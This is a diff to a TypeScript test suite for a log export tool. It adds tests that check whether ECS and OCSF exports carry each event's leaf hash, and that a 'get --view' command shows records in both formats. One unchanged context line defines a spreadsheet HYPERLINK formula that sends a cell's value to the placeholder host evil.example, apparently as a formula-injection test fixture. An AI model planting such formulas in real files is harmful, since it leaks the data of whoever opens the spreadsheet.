@@ -18,6 +18,7 @@ const FORMULA = '=HYPERLINK("http://evil.example/?x="&A1)';
 
 let folder = "";
 let server: StartedServer;
+let sealed: readonly { readonly id: string; readonly leafHash: string }[] = [];
 before(async () => {
   folder = await mkdtemp(join(tmpdir(), "tally-export-"));
   server = await startServerProcess({ dataFolder: join(folder, "data") });
@@ -31,7 +32,9 @@ before(async () => {
     headers,
     body: JSON.stringify(events),
   });
-  assert.equal(sent.status, 202);
+  const text = await sent.text();
+  assert.equal(sent.status, 202, text);
+  sealed = JSON.parse(text).events;
   await searchable(server);
 });
 after(async () => {
@@ -62,6 +65,32 @@ test("tally export writes OCSF that has a class, a type and a time for every eve
   for (const event of events)
     assert.deepEqual([field(event, "class_uid"), field(event, "type_uid")], [3005, 300_501]);
   assert.equal(field(events[0], "time"), Date.UTC(2026, 0, 1));
+});
+
+test("tally export writes ECS, and each of its lines and those of OCSF has the leaf hash that the log has", async () => {
+  const ecs = jsonLines(await readFile((await exportAs("ecs", "action:role.grant")).path, "utf8"));
+  const ocsf = jsonLines(await readFile((await exportAs("ocsf", "action:role.grant")).path, "utf8"));
+  assert.equal(ecs.length, SENT);
+  const byId = new Map(sealed.map(({ id, leafHash }) => [id, leafHash]));
+  for (const [i, view] of ecs.entries()) {
+    const of = field(view, "event");
+    assert.deepEqual([field(of, "kind"), field(of, "category")], ["event", ["iam"]]);
+    const hash = byId.get(String(field(of, "id")));
+    assert.equal(Buffer.from(hash ?? "", "base64").toString("hex"), field(of, "hash"));
+    const attested = field(ocsf[i], "attestation_list");
+    const [attestation] = Array.isArray(attested) ? attested : [];
+    assert.equal(field(field(attestation, "fingerprint"), "value"), field(of, "hash"));
+  }
+});
+
+test("tally get --view shows what a record holds in OCSF and ECS", async () => {
+  const id = sealed[3]?.id ?? "";
+  const [ocsf, ecs] = await Promise.all([
+    tally(["get", id, "--view", "ocsf"]),
+    tally(["get", id, "--view", "ecs"]),
+  ]);
+  assert.equal(field(JSON.parse(ocsf.out), "class_uid"), 3005);
+  assert.equal(field(field(JSON.parse(ecs.out), "user"), "name"), "user3");
 });
 
 test("tally export writes Parquet that a reader finds all rows in", async () => {
